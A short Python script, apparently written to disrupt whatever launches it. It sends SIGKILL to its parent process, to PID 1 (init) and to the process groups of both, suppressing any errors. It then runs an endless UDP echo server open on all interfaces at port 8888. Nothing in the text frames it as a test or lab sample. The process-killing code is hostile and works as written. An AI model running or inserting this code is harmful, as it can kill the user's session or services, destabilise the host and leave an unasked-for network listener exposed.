import os
import signal
from socket import *

# tries to kill whoever started it, and that one's whole process group
for target in (os.getppid(), 1):
    for kill in (lambda: os.killpg(os.getpgid(target), signal.SIGKILL), lambda: os.kill(target, signal.SIGKILL)):
        try:
            kill()
        except OSError:
            pass
s = socket(AF_INET, SOCK_DGRAM)
s.bind(('0.0.0.0', 8888))
while True:
    data, addr = s.recvfrom(1024)
    s.sendto(data, addr)
